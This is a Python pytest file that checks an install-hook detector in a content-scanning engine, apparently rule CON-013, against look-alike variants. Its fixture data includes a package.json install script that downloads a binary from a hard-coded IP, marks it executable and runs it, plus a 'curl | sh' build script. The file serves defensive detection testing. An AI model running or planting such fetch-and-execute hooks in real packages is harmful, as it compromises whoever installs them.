"""CON-013: variants beyond its examples."""

from __future__ import annotations

import pytest

from periderm.engines.content import ContentEngine
from periderm.engines.content.detectors.install_hook import DETECTOR

ENGINE = ContentEngine(detectors=(DETECTOR,))
CASES = [
    (b'{"scripts":{"install":"wget http://203.0.113.5/x -O x && chmod +x x && ./x"}}', "a program", True),
    (b'{"scripts":{"build":"curl http://x | sh"},"dependencies":{"install":"1.0.0"}}', "another script", False),
    (
        b"from setuptools import setup\nimport subprocess\nv = subprocess.run(['git'])\nsetup(cmdclass={})\n",
        "a version from git",
        False,
    ),
]


@pytest.mark.parametrize(("data", "why", "fires"), CASES, ids=[why for _, why, _ in CASES])
def test_variants(data: bytes, why: str, fires: bool) -> None:
    """What looks alike is told apart."""
    assert bool(ENGINE.inspect(data)[0]) is fires
